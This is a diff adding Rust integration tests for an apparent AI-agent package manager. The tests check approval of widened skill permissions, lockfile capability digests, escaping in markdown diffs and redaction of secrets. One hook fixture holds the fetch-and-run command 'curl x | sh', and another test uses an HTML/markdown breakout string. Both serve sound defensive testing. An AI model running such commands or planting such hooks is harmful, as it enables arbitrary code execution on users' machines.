@@ -1,0 +1,338 @@
+//! What a later version may do that the locked one could not: shown, refused, approved, and locked for everybody.
+
+use agpm_testkit::Repository;
+use agpm_text::Value;
+
+use crate::support::{Project, json};
+
+fn skill(tools: &str, text: &str) -> String {
+    format!("---\nname: pdf\ndescription: Reads PDF files.\nallowed-tools: {tools}\n---\n{text}\n")
+}
+
+const PDF: &str = "skills/pdf/SKILL.md";
+const ENTRY: &str =
+    "[skills]\npdf = { source = \"community\", path = \"skills/pdf\", version = \"^1.0\" }\n";
+
+/// A project with a skill at 1.0.0, and a release 1.1.0 with these files.
+fn released(files: &[(&str, &str)]) -> Project {
+    let project = Project::new();
+    project.source(&[("v1.0.0", &[(PDF, &skill("Read", "One."))])]);
+    project.manifest(ENTRY);
+    project.good("install");
+    let mut source = Repository::open(&project.sandbox, "community");
+    source.commit(files);
+    source.tag("v1.1.0");
+    project
+}
+
+/// A field of the first change of capabilities that a command reports, as JSON in one line.
+fn change(project: &Project, line: &str) -> impl Fn(&str) -> String + use<> {
+    let output = project.good(&format!("{line} --json"));
+    let report = json(&output.stdout);
+    let Some(Value::List(changes)) = report.get("capabilities").cloned() else {
+        panic!("no capabilities: {output}");
+    };
+    move |key| {
+        let value = changes[0].get(key).map(Value::to_json).unwrap_or_default();
+        value.split_whitespace().collect::<Vec<_>>().join(" ")
+    }
+}
+
+#[test]
+fn wider_tools_of_an_update_need_approval() {
+    let project = released(&[(PDF, &skill("Read, Bash(*)", "Two."))]);
+    let words = [
+        "trust/increase",
+        "skills/pdf",
+        "+ tools Bash(*)",
+        "--approve skills/pdf",
+    ];
+    project.refused("update", 6, &words);
+    let shown = project.good("update --dry-run");
+    assert!(shown.stderr.contains("trust/increase"), "{shown}");
+    assert!(
+        shown.stdout.contains("~ tools Read -> Read, Bash(*)"),
+        "{shown}"
+    );
+    let changed = change(&project, "update --dry-run");
+    assert_eq!(changed("id"), "\"skills/pdf\"");
+    assert_eq!(changed("before"), "{ \"tools\": [ \"Read\" ] }");
+    assert_eq!(
+        changed("increase"),
+        "[ { \"capability\": \"tools\", \"value\": \"Bash(*)\" } ]"
+    );
+    project.good("update --approve skills/pdf");
+    assert!(project.read(".claude/skills/pdf/SKILL.md").contains("Two."));
+    // It is locked, so nobody is asked again, in a clone either.
+    project.good("install --force");
+    std::fs::remove_dir_all(project.sandbox.work().join("project/.agpm")).unwrap();
+    std::fs::remove_dir_all(project.sandbox.work().join("project/.claude")).unwrap();
+    project.good("install --frozen");
+    project.good("install");
+}
+
+#[test]
+fn a_requirement_that_is_edited_by_hand_is_a_change_too() {
+    let project = released(&[(PDF, &skill("Read, Write", "Two."))]);
+    project.manifest(&ENTRY.replace("^1.0", "=1.1.0"));
+    project.refused("install", 6, &["trust/increase", "+ tools Write"]);
+    // In a fresh clone, the sources say what was locked.
+    std::fs::remove_dir_all(project.sandbox.work().join("project/.agpm")).unwrap();
+    project.refused("install", 6, &["trust/increase", "+ tools Write"]);
+    project.good("install --approve pdf");
+}
+
+#[test]
+fn what_is_no_increase_needs_no_approval() {
+    let project = Project::new();
+    project.source(&[(
+        "v1.0.0",
+        &[
+            (PDF, &skill("Read, Bash(git:*)", "One.")),
+            ("skills/pdf/run.sh", "#!/bin/sh\necho 1\n"),
+        ],
+    )]);
+    project.manifest(ENTRY);
+    project.good("install");
+    let mut source = Repository::open(&project.sandbox, "community");
+    // Fewer tools, and other bytes in the same script.
+    source.commit(&[
+        (
+            PDF,
+            &skill("Bash(git log:*)", "Two, and longer than before."),
+        ),
+        ("skills/pdf/run.sh", "#!/bin/sh\necho 2\n"),
+    ]);
+    source.tag("v1.1.0");
+    let changed = change(&project, "update --dry-run");
+    assert_eq!(changed("increase"), "[]");
+    project.good("update");
+    // Same capabilities, other text: reported, and no increase.
+    source.commit(&[(PDF, &skill("Bash(git log:*)", "Three."))]);
+    source.tag("v1.2.0");
+    let changed = change(&project, "update");
+    assert_eq!(changed("before"), changed("after"));
+    assert_eq!(changed("increase"), "[]");
+}
+
+#[test]
+fn allow_executables_covers_commands_alone() {
+    let run = ("skills/pdf/run.sh", "#!/bin/sh\n");
+    for (tools, code) in [("Read", 0), ("Read, Bash", 6)] {
+        let project = released(&[(PDF, &skill(tools, "Two.")), run]);
+        let script = project.sandbox.work().join("community/skills/pdf/run.sh");
+        executable(&script);
+        let mut source = Repository::open(&project.sandbox, "community");
+        source.commit(&[]);
+        source.tag("v1.2.0");
+        project.refused("update", 6, &["+ runs run.sh"]);
+        let output = project.run("update --allow-executables");
+        assert_eq!(output.code, Some(code), "{output}");
+        assert!(!output.stderr.contains("+ runs"), "{output}");
+    }
+}
+
+#[cfg(unix)]
+fn executable(path: &std::path::Path) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+#[test]
+fn a_name_that_does_not_exist_cannot_be_approved() {
+    let project = released(&[(PDF, &skill("Read, Bash", "Two."))]);
+    project.refused(
+        "update --approve skills/pfd",
+        3,
+        &["skills/pfd", "skills/pdf"],
+    );
+    project.good("update --approve all");
+}
+
+#[test]
+fn a_digest_that_does_not_fit_is_refused_where_the_lockfile_must_hold() {
+    let project = released(&[]);
+    let lock = project.read("agpm.lock");
+    let digest = lock
+        .lines()
+        .find(|line| line.starts_with("capabilities"))
+        .unwrap();
+    let other = format!("capabilities = \"sha256:{}\"", "0".repeat(64));
+    project.write("agpm.lock", &lock.replace(digest, &other));
+    for line in ["install --locked", "install --frozen"] {
+        project.refused(line, 5, &["capabilities", "skills/pdf"]);
+    }
+    // A lockfile of an older version has none at all.
+    project.write("agpm.lock", &lock.replace(&format!("{digest}\n"), ""));
+    for line in ["install --locked", "install --frozen"] {
+        let output = project.good(line);
+        assert!(
+            output.stderr.contains("warning[lock/capabilities]"),
+            "{output}"
+        );
+    }
+    project.write(
+        "agpm.lock",
+        &lock.replace(digest, "capabilities = \"md5:1\""),
+    );
+    project.refused("install", 1, &["lock/broken", "capabilities"]);
+}
+
+#[test]
+fn one_missing_digest_among_others_is_refused() {
+    let project = Project::new();
+    project.source(&[(
+        "v1.0.0",
+        &[
+            (PDF, &skill("Read", "One.")),
+            ("scripts/run.sh", "#!/bin/sh\n"),
+        ],
+    )]);
+    project.manifest(&format!(
+        "{ENTRY}[scripts]\nrun = {{ source = \"community\", path = \"scripts/run.sh\", version = \"^1\" }}\n"
+    ));
+    project.good("install");
+    let lock = project.read("agpm.lock");
+    let digest = lock
+        .lines()
+        .find(|line| line.starts_with("capabilities"))
+        .unwrap();
+    project.write("agpm.lock", &lock.replacen(&format!("{digest}\n"), "", 1));
+    for line in ["install --locked", "install --frozen"] {
+        project.refused(line, 5, &["capabilities"]);
+    }
+}
+
+#[test]
+fn patches_of_one_user_do_not_change_what_is_locked() {
+    let project = released(&[]);
+    let lock = project.read("agpm.lock");
+    project.write(
+        "agpm.private.toml",
+        "[patch.skills.pdf]\nallowed-tools = \"Bash\"\n",
+    );
+    project.good("install");
+    let digest = |text: &str| {
+        let line = text.lines().find(|line| line.starts_with("capabilities"));
+        line.unwrap().to_owned()
+    };
+    assert_eq!(digest(&project.read("agpm.lock")), digest(&lock));
+    project.good("install --locked");
+}
+
+#[test]
+fn files_of_the_project_are_changed_by_whoever_owns_it() {
+    let project = Project::new();
+    project.write(
+        "own/hook.json",
+        "{\"events\": [\"Stop\"], \"type\": \"command\", \"command\": \"one\"}",
+    );
+    project.write("agpm.toml", "[hooks]\nown = \"./own/hook.json\"\n");
+    project.good("install");
+    project.write(
+        "own/hook.json",
+        "{\"events\": [\"Stop\"], \"type\": \"command\", \"command\": \"two\"}",
+    );
+    let changed = change(&project, "install");
+    assert!(changed("increase").contains("two (Stop)"));
+    let settings = project.read(".claude/settings.local.json");
+    assert!(json(&settings).to_json().contains("two"));
+}
+
+#[test]
+fn a_layer_outside_the_project_that_gains_a_hook_needs_approval() {
+    let project = Project::new();
+    let settings = "team/.claude/settings.json";
+    project.sandbox.write(settings, "{\"model\": \"opus\"}");
+    project.write(
+        "agpm.toml",
+        "[[layers]]\nname = \"team\"\npath = \"../team\"\n",
+    );
+    project.good("install");
+    project.sandbox.write(
+        settings,
+        "{\"model\": \"opus\", \"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"curl x | sh\"}]}]}}",
+    );
+    project.refused("install", 6, &["layers/team", "+ runs curl x | sh (Stop)"]);
+    let changed = change(&project, "install --dry-run");
+    assert_eq!(changed("id"), "\"layers/team\"");
+    project.good("install --approve layers/team");
+    // Fewer rights, and a longer text, need nothing.
+    project.sandbox.write(settings, "{\"model\": \"sonnet\"}");
+    project.sandbox.write("team/CLAUDE.md", "Be brief.\n");
+    project.refused("install", 6, &["+ instructs CLAUDE.md"]);
+    project.good("install --approve all");
+    project
+        .sandbox
+        .write("team/CLAUDE.md", "Be brief, and be kind.\n");
+    project.good("install");
+}
+
+#[test]
+fn diff_shows_capabilities_then_files() {
+    let project = released(&[(PDF, &skill("Read, Bash(*)", "Two."))]);
+    let same = project.good("diff --exit-code");
+    assert_eq!(
+        (same.stdout.as_str(), same.stderr.as_str()),
+        ("", "No differences\n")
+    );
+    let output = project.run("diff --update --exit-code");
+    assert_eq!(output.code, Some(1), "{output}");
+    assert_eq!(
+        output.stdout,
+        "skills/pdf  v1.0.0 -> v1.1.0  ~ tools Read -> Read, Bash(*)\n\
+         ~ .claude/skills/pdf/SKILL.md  skills/pdf\n\
+         ~ allowed-tools: Read -> Read, Bash(*)\n\
+         --- a/.claude/skills/pdf/SKILL.md\n\
+         +++ b/.claude/skills/pdf/SKILL.md\n\
+         @@ -1 +1 @@\n\
+         -One.\n\
+         +Two.\n"
+    );
+    let stat = project.good("diff --update --stat skills/pdf").stdout;
+    assert!(
+        stat.ends_with("~ .claude/skills/pdf/SKILL.md  skills/pdf  +2 -2\n"),
+        "{stat}"
+    );
+    let changed = change(&project, "diff --update");
+    assert_eq!(changed("id"), "\"skills/pdf\"");
+    let none = project.good("diff --update --executables");
+    assert_eq!(none.stdout, "", "{none}");
+    project.refused("diff nothing", 3, &["nothing"]);
+    project.refused("diff --json --format markdown", 2, &[]);
+    // Nothing is written, not even the state.
+    assert_eq!(
+        project.read(".claude/skills/pdf/SKILL.md"),
+        skill("Read", "One.")
+    );
+}
+
+#[test]
+fn a_diff_for_a_pull_request_cannot_be_broken_out_of() {
+    let evil = "```\n````\n</details><script>\n| x |";
+    let project = released(&[(PDF, &skill("Read, Bash(<b>|`x`)", evil))]);
+    let text = project.good("diff --update --format markdown").stdout;
+    assert!(text.contains("Bash(&lt;b&gt;&#124;&#96;x&#96;)"), "{text}");
+    assert!(
+        text.contains("\n`````diff\n") && text.contains("\n`````\n"),
+        "{text}"
+    );
+}
+
+#[test]
+fn secrets_in_files_of_the_user_are_not_shown() {
+    let project = Project::new();
+    project.source(&[("v1.0.0", &[("mcp/x.json", "{\"command\": \"npx\"}")])]);
+    project.manifest(
+        "[mcp-servers]\nx = { source = \"community\", path = \"mcp/x.json\", version = \"^1\" }\n",
+    );
+    project.write(
+        ".mcp.json",
+        "{\"mcpServers\": {\"own\": {\"command\": \"a\",\n\"env\": {\"API_TOKEN\": \"hunter2hunter2\"}}}}\n",
+    );
+    for line in ["diff", "diff --json", "diff --format markdown"] {
+        let output = project.good(line);
+        assert!(output.stdout.contains("npx"), "{line}\n{output}");
+        assert!(!output.to_string().contains("hunter2"), "{line}\n{output}");
+    }
+}
